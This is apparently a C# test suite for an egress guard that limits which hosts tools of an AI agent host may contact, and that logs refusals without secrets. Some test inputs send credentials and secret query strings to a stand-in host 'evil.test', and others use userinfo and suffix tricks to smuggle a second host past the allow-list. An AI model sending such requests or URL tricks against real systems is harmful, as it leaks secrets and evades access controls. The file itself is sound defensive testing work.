using Microsoft.Extensions.DependencyInjection;
using ToolContracts.Approvals;

namespace ToolContracts.Hosting.Tests.Egress;

/// <summary>Which hosts a running tool reaches, by which client, and when.</summary>
public sealed class EgressTests
{
    private const string A = "http://a.test:38417/";
    private const string B = "http://b.test:38417/";

    [Fact]
    public async Task ReachesAHostThatItsContractNames()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost().Named("a.test", server.Address).Named("x.below.test", server.Address).GrantedAsync();
        Assert.Equal("GET /x?y HTTP/1.1", await host.PassesAsync("net_read_a", static tool => tool.GetAsync(A + "x?y#z")));
        Assert.Equal("GET / HTTP/1.1", await host.PassesAsync("net_read_a", static tool => tool.GetAsync("http://X.Below.test:38417/")));
        Assert.Equal("GET / HTTP/1.1", await host.PassesAsync("net_read_injected", static tool => tool.GetAsync(A)));
        Assert.Equal("GET / HTTP/1.1", await host.PassesAsync("net_write_a", static tool => tool.GetAsync(A)));
    }

    [Theory]
    [InlineData("net_read_a", B)]
    [InlineData("net_read_b", A)]
    [InlineData("net_read_nothing", A)]
    [InlineData("net_read_injected", B)]
    [InlineData("net_write_a", B)]
    [InlineData("net_read_a", "http://a.test/")]
    [InlineData("net_read_a", "http://a.test:38418/")]
    [InlineData("net_read_a", "http://below.test:38417/")]
    [InlineData("net_read_a", "http://a.test:38417@b.test:38417/")]
    [InlineData("net_read_a", "http://a.test.b.test:38417/")]
    [Threat(2, Part = "egress")]
    public async Task RefusesAHostThatItsContractDoesNotName(string tool, string url)
    {
        await using var server = new WebServer();
        await using var host = await new NetHost().Named("a.test", server.Address).Named("b.test", server.Address).GrantedAsync();
        var refused = await host.RefusesAsync(tool, held => held.GetAsync(url + "path?secret=1"));
        Assert.Equal("egress-denied", refused.Code);
        Assert.Contains("[Egress]", refused.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("secret", refused.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("path", refused.Message, StringComparison.Ordinal);
        Assert.Equal(0, server.Connections);
    }

    [Fact]
    public async Task HoldsEachClientOfTheFactory()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost(static services =>
        {
            services.AddHttpClient("named", static client => client.BaseAddress = new Uri(B));
            services.AddHttpClient<TypedClient>();
        }).Named("a.test", server.Address).Named("b.test", server.Address).GrantedAsync();
        Assert.Equal("GET /n HTTP/1.1", await host.PassesAsync("net_read_b", static tool => tool.Factory.CreateClient("named").GetStringAsync("n", tool.CancellationToken)));
        Assert.Equal("GET / HTTP/1.1", await host.PassesAsync("net_read_a", static tool => tool.Factory.CreateClient().GetStringAsync(A, tool.CancellationToken)));
        var connections = server.Connections;
        Assert.Equal("b.test:38417", (await host.RefusesAsync("net_read_a", static tool => tool.Factory.CreateClient("named").GetStringAsync("n", tool.CancellationToken))).Host);
        Assert.Equal("b.test:38417", (await host.RefusesAsync("net_read_a", static tool => tool.Factory.CreateClient().GetStringAsync(B, tool.CancellationToken))).Host);

        // A client that the host made before, and that a tool uses.
        var typed = host.Services.GetRequiredService<TypedClient>();
        Assert.Equal("GET / HTTP/1.1", await host.PassesAsync("net_read_a", tool => typed.Http.GetStringAsync(A, tool.CancellationToken)));
        await host.RefusesAsync("net_read_a", tool => typed.Http.GetStringAsync(B, tool.CancellationToken));
        Assert.InRange(server.Connections, connections, connections + 1);
    }

    [Fact]
    public async Task LeavesTheHostsOwnRequestsAlone()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost(allows: false).Named("a.test", server.Address).GrantedAsync();
        var own = host.Services.GetRequiredService<IHttpClientFactory>().CreateClient("own");
        var url = $"http://{server.Address}:{WebServer.Port}/";
        Assert.Equal("GET / HTTP/1.1", await own.GetStringAsync(url, TestContext.Current.CancellationToken));
        using var request = new HttpRequestMessage(HttpMethod.Delete, url);
        using var response = own.Send(request, TestContext.Current.CancellationToken);
        Assert.True(response.IsSuccessStatusCode);
    }

    [Fact]
    public async Task AToolDoesNotShareTheConnectionsOfTheHost()
    {
        await using var server = await WebServer.AtLocalhostAsync();
        await using var host = await new NetHost(options: static o => o.Egress.Resolver = null).GrantedAsync();
        var own = host.Services.GetRequiredService<IHttpClientFactory>().CreateClient("own");
        const string Local = "http://localhost:38417/";
        Assert.Equal("GET / HTTP/1.1", await own.GetStringAsync(Local, TestContext.Current.CancellationToken));

        // The host's connection is open and idle; the tool would need one of its own, to an address that the system's resolver gives.
        var refused = await host.RefusesAsync("net_read_a", static tool => tool.Factory.CreateClient("own").GetStringAsync(Local, tool.CancellationToken));
        Assert.Contains("its address is loopback", refused.Message, StringComparison.Ordinal);
        Assert.Contains("options.Egress.AllowPrivate(\"localhost:38417\")", refused.Message, StringComparison.Ordinal);
        Assert.Single(server.Requests);

        await using var allowing = await new NetHost(options: static o => { o.Egress.Resolver = null; o.Egress.AllowPrivate("localhost:38417"); }).GrantedAsync();
        Assert.Equal("GET / HTTP/1.1", await allowing.PassesAsync("net_read_a", static tool => tool.GetAsync(Local)));
    }

    [Fact]
    public async Task TheClientOfToolsIsForToolsOnly()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost().Named("a.test", server.Address).GrantedAsync();
        using var client = host.Services.GetRequiredService<HttpClient>();
        var refused = await Assert.ThrowsAsync<EgressDeniedException>(() => client.GetStringAsync(A, TestContext.Current.CancellationToken));
        Assert.Contains("no tool is running here", refused.Message, StringComparison.Ordinal);
        HttpClient? kept = null;
        await host.PassesAsync("net_read_a", tool =>
        {
            kept = tool.Http;
            return tool.GetAsync(A);
        });
        await Assert.ThrowsAsync<EgressDeniedException>(() => kept!.GetStringAsync(A, TestContext.Current.CancellationToken));
        Assert.Single(server.Requests);
        Assert.Contains(host.Host.Log.Lines, static line => line.StartsWith("The HttpClient 'ToolContracts' is for tools, and no tool was running", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task RefusesWhatAToolSendsAfterItsCallHasEnded(bool byFactory)
    {
        await using var server = new WebServer();
        await using var host = await new NetHost().Named("a.test", server.Address).GrantedAsync();
        var ended = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var behind = new TaskCompletionSource<Task<string>>(TaskCreationOptions.RunContinuationsAsynchronously);
        await host.PassesAsync("net_read_a", tool =>
        {
            var client = byFactory ? tool.Factory.CreateClient() : tool.Http;
            behind.SetResult(Task.Run(async () =>
            {
                await ended.Task;
                return await client.GetStringAsync(A);
            }));
            return Task.FromResult("left");
        });
        ended.SetResult();
        var refused = await Assert.ThrowsAsync<EgressDeniedException>(async () => await await behind.Task);
        Assert.Contains("the tool's call has ended", refused.Message, StringComparison.Ordinal);
        Assert.Equal(0, server.Connections);
        Assert.Contains("\"subject\":\"a.test:38417\"", Assert.Single(await host.RefusedAsync()), StringComparison.Ordinal);
    }

    [Fact]
    public async Task EndsARequestThatIsUnderWayWhenTheCallEnds()
    {
        await using var server = new WebServer(static _ => "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nsome");
        await using var host = await new NetHost().Named("a.test", server.Address).GrantedAsync();
        Task<string>? behind = null;
        await host.PassesAsync("net_read_a", async tool =>
        {
            using var response = await tool.Http.GetAsync(A, HttpCompletionOption.ResponseHeadersRead, CancellationToken.None);
            behind = tool.Http.GetStringAsync(A, CancellationToken.None);
            return "left";
        });
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => behind!);
    }

    [Theory]
    [InlineData("buffered")]
    [InlineData("streamed")]
    [InlineData("synchronous")]
    public async Task EndsARequestAtTheDeadlineThoughTheToolIgnoresIt(string how)
    {
        await using var server = new WebServer(static _ => "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nsome");
        await using var host = await new NetHost().Named("a.test", server.Address).GrantedAsync();
        var reads = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        Exception? ended = null;
        var over = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var call = host.CallAsync("net_write_a", "slow", async tool =>
        {
            try
            {
                using var response = await tool.Http.GetAsync(A, HttpCompletionOption.ResponseHeadersRead, CancellationToken.None);
                var first = new byte[4];
                await using var body = await response.Content.ReadAsStreamAsync(CancellationToken.None);
                await body.ReadExactlyAsync(first, CancellationToken.None);
                reads.SetResult();
                return how switch
                {
                    "synchronous" => body.Read(first, 0, 4).ToString(System.Globalization.CultureInfo.InvariantCulture),
                    "streamed" => await new StreamReader(body).ReadToEndAsync(CancellationToken.None),
                    _ => await tool.Http.GetStringAsync(A, CancellationToken.None),
                };
            }
            catch (Exception exception)
            {
                ended = exception;
                throw;
            }
            finally
            {
                over.SetResult();
            }
        });
        await reads.Task;
        host.Host.Time.Advance(TimeSpan.FromSeconds(7));
        Assert.IsType<ToolOutcome.Unknown>(await call);
        await over.Task;
        Assert.IsType<OperationCanceledException>(ended, exactMatch: false);
    }

    [Fact]
    public async Task TwoToolsAtATimeReachEachItsOwnHost()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost().Named("a.test", server.Address).Named("b.test", server.Address).GrantedAsync();
        host.Scripts.On("both", static async tool =>
        {
            List<string> reached = [];
            await Task.WhenAll(new[] { A, B }.Select(async url =>
            {
                await Task.Yield();
                try
                {
                    await tool.GetAsync(url);
                    lock (reached)
                    {
                        reached.Add(url);
                    }
                }
                catch (EgressDeniedException)
                {
                    // Swallowed.
                }
            }));
            return string.Join(' ', reached);
        });
        var outcomes = await Task.WhenAll(Enumerable.Range(0, 60).Select(i =>
            host.Host.CallAsync(i % 2 == 0 ? "net_read_a" : "net_read_b", """{"script":"both"}""", TestHost.Agent with { Task = "t" + i }).AsTask()));
        for (var i = 0; i < outcomes.Length; i++)
        {
            Assert.Equal($"\"{(i % 2 == 0 ? A : B)}\"", Assert.IsType<ToolOutcome.Completed>(outcomes[i]).Result.Text());
        }

        Assert.Equal(60, server.Requests.Count);
    }

    [Fact]
    public async Task ANestedCallIsHeldToItsOwnContract()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost().Named("a.test", server.Address).Named("b.test", server.Address).GrantedAsync();
        host.Scripts.On("inner", static async tool =>
        {
            await Assert.ThrowsAsync<EgressDeniedException>(() => tool.GetAsync(A));
            return await tool.GetAsync(B + "inner");
        });
        Assert.Equal("GET /outer HTTP/1.1", await host.PassesAsync("net_read_a", static async tool =>
        {
            Assert.IsType<ToolOutcome.Completed>(
                await tool.Dispatcher.DispatchAsync(new ToolCall("net_read_b", """{"script":"inner"}"""u8.ToArray(), TestHost.Agent), tool.CancellationToken));
            await Assert.ThrowsAsync<EgressDeniedException>(() => tool.GetAsync(B));
            return await tool.GetAsync(A + "outer");
        }));
    }

    [Fact]
    public async Task WhatTheHostDoesForANestedCallIsNotTheToolsRequest()
    {
        await using var server = new WebServer();
        await using var host = await new NetHost(static services => services.AddSingleton<NetTools.IWriteApprovedApprover, AskingApprover>())
            .Named("a.test", server.Address).GrantedAsync();
        await host.Host.GrantAsync("approve:keeper", actor: "asking");
        AskingApprover.Url = new Uri($"http://{server.Address}:{WebServer.Port}/approve");
        host.Scripts.On("inner", static tool => tool.GetAsync(A + "inner"));
        host.Scripts.On("preview of inner", static _ => Task.FromResult("plan"));
        Assert.Equal("completed", await host.PassesAsync("net_read_b", static async tool =>
            (await tool.Dispatcher.DispatchAsync(new ToolCall("net_write_approved", """{"script":"inner"}"""u8.ToArray(), TestHost.Agent), tool.CancellationToken)).Code));
        Assert.Equal(["GET /approve", "GET /inner"], server.Requests.Select(static head => head[..head.IndexOf(" HTTP", StringComparison.Ordinal)]));
    }

    [Fact]
    public async Task ARefusalThatAToolSwallowsIsInTheEvidence()
    {
        await using var host = await new NetHost().GrantedAsync();
        await host.RefusesAsync("net_read_a", static tool => tool.GetAsync("http://user:secret@evil.test/path?secret=1"));
        await host.RefusesAsync("net_read_a", static tool => tool.GetAsync("https://other.test/"));
        var refused = await host.RefusedAsync();
        Assert.Contains("\"subject\":\"evil.test\",\"task\":\"t1\",\"tenant\":\"acme\",\"tool\":\"net_read_a\",\"type\":\"refusal\"", refused[0], StringComparison.Ordinal);
        Assert.Contains("\"reason\":\"[Egress] does not name the host\"", refused[0], StringComparison.Ordinal);
        Assert.Contains("\"subject\":\"other.test\"", refused[1], StringComparison.Ordinal);
        Assert.DoesNotContain("secret", string.Concat(refused), StringComparison.Ordinal);
        Assert.Contains(host.Host.Log.Lines, static line =>
            line.StartsWith("net_read_a: call ", StringComparison.Ordinal)
            && line.EndsWith("may not send a request to evil.test: [Egress] does not name the host. Add \"evil.test\" to the tool's [Egress], if it has to go there.", StringComparison.Ordinal));
    }

    [Fact]
    public async Task EqualRefusalsAreOneRecordAndThoseOfOtherHostsAreNot()
    {
        await using var host = await new NetHost().GrantedAsync();
        await host.PassesAsync("net_read_a", static async tool =>
        {
            foreach (var name in new[] { "x", "y", "x", "x" })
            {
                await Assert.ThrowsAsync<EgressDeniedException>(() => tool.GetAsync($"https://{name}.test/"));
            }

            return "done";
        });

        // However they were grouped as they were written, the counts add up.
        var refused = await host.RefusedAsync();
        Assert.Equal((3, 1), (Count("x"), Count("y")));

        int Count(string name) => refused.Where(line => line.Contains($"\"subject\":\"{name}.test\"", StringComparison.Ordinal))
            .Sum(static line => System.Text.Json.JsonDocument.Parse(line).RootElement.GetProperty("count").GetInt32());
    }

    [Theory]
    [InlineData("net_read_a", typeof(ToolOutcome.Failed), "tool-error")]
    [InlineData("net_write_a", typeof(ToolOutcome.Unknown), "outcome-unknown")]
    [Threat(59, Part = "egress")]
    public async Task TheModelIsToldOfAnErrorAndNotOfTheHost(string tool, Type outcome, string code)
    {
        await using var host = await new NetHost().GrantedAsync();
        var told = await host.CallAsync(tool, "throws", static held => held.GetAsync("https://evil.test/"));
        Assert.IsType(outcome, told);
        Assert.Equal(code, told.Code);
        Assert.Single(await host.RefusedAsync());
    }

    [Fact]
    public async Task AToolMaySayThatItsEffectDidNotStart()
    {
        await using var host = await new NetHost().GrantedAsync();
        var told = await host.CallAsync("net_write_a", "says", static async held =>
        {
            try
            {
                return await held.GetAsync("https://evil.test/");
            }
            catch (EgressDeniedException exception)
            {
                throw new ToolFailedException(exception.Code, ToolFailure.NotStarted, exception);
            }
        });
        Assert.True(Assert.IsType<ToolOutcome.Failed>(told).MayRetry);
        Assert.Equal("egress-denied", told.Code);
    }

    [Fact]
    public async Task CookiesOfOneCallDoNotGoIntoAnother()
    {
        await using var server = new WebServer(static _ => WebServer.Ok("ok", "Set-Cookie: tenant=acme\r\n"));
        await using var host = await new NetHost().Named("a.test", server.Address).GrantedAsync();
        await host.PassesAsync("net_read_a", static tool => tool.GetAsync(A));
        await host.PassesAsync("net_read_a", static tool => tool.GetAsync(A));
        Assert.Equal(2, server.Requests.Count);
        Assert.All(server.Requests, static head => Assert.DoesNotContain("Cookie", head, StringComparison.Ordinal));
    }

    /// <summary>Asks another system, as the host may.</summary>
    private sealed class AskingApprover(IHttpClientFactory clients) : NetTools.IWriteApprovedApprover
    {
        public static Uri? Url { get; set; }

        public Caller Approver { get; } = new(ActorKind.Service, "asking", "acme");

        public async ValueTask<ApprovalVerdict> DecideAsync(NetTools.WriteApprovedProposal proposal, CancellationToken cancellationToken)
        {
            await clients.CreateClient("approvals").GetStringAsync(Url, cancellationToken);
            return new ApprovalVerdict.Approve("asked");
        }
    }

    private sealed class TypedClient(HttpClient http)
    {
        public HttpClient Http { get; } = http;
    }
}
